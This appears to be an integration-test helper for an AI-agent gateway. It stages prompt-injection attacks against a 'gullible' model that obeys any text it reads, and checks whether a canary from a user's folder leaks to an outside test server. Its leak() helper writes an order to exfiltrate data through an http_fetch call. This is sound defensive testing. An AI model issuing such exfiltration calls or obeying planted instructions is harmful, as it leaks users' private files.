"""A whole gateway with real sandboxes, a server outside, and agents that obey every text."""

import asyncio
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import unquote

from tests.integration.gateway.origin import Origin

from trilemma.client import Client
from trilemma.gateway.agentfile import read_agent
from trilemma.gateway.ledger.events import Kind, Recorded
from trilemma.gateway.local import LocalGateway
from trilemma.result import Result
from trilemma.subagents.events import Event

DONE = {"enum": ["done"]}
"""What a sub-agent says that has nothing to say."""


def call(tool: str, **arguments: Any) -> str:
    """An order that the gullible model obeys."""
    return f"CALL {tool} {json.dumps(arguments)}"


def one_of(*orders: str) -> dict[str, Any]:
    """A typed ask that can be one of these orders, and nothing else."""
    return {"enum": list(orders)}


@dataclass
class Stage:
    """Where one attack is played."""

    gateway: LocalGateway
    origin: Origin
    folder: Path
    """A person's folder, with the canary in ``a.txt``."""
    canary: str
    """Of this test alone."""
    events: list[Event] = field(default_factory=list)
    begun: int = field(init=False)
    """The newest event of the ledger, which other tests write to as well, before this one."""

    def __post_init__(self) -> None:
        self.begun = self.gateway.enforcement.ledger.head().seq

    def url(self, path: str = "/") -> str:
        """An address outside."""
        return self.origin.url(path)

    @property
    def hosts(self) -> list[Any]:
        """What an agent may reach that goes outside."""
        return [self.origin.rule()]

    def own(self, mode: str = "layer") -> dict[str, str]:
        """The person's folder as a workspace."""
        return {"path": str(self.folder), "origin": "own", "mode": mode}

    def leak(self, text: str) -> str:
        """The order to send a text outside."""
        return call("http_fetch", url=self.url(f"/?d={text}"))

    def serve(self, text: str) -> str:
        """Offer a text outside; where it is."""
        path = f"/{self.canary}"
        self.origin.answers[path] = text.encode()
        return self.url(path)

    def run(self, *orders: str, **agent: Any) -> Result:
        """Run an agent in a domain of its own on these orders, to its end."""
        spec = read_agent({"model": "gullible"} | agent, origin="test", base=self.folder.parent)
        running = Client(self.gateway).run(
            spec, "\n".join(orders), new_domain=True, on_event=self.events.append
        )
        return asyncio.run(running)

    @property
    def leaked(self) -> bool:
        """Whether the canary arrived outside."""
        return any(self.canary in unquote(path) for path in list(self.origin.paths))

    def wrote(self, result: Result, name: str) -> bool:
        """Whether a file of this name lies in the run's layer."""
        assert result.layer is not None
        machinery = self.gateway._started()
        return (machinery.workspaces.layers.get(result.layer).upper / name).exists()

    def denied(self, reason: str) -> list[Recorded]:
        """Refusals for this reason, in runs of this test's agents."""
        return [
            found
            for found in self.gateway.enforcement.ledger.events(kind=Kind.CALL_DENIED)
            if found.seq > self.begun and reason in found.event.body["decision"]["reasons"]
        ]
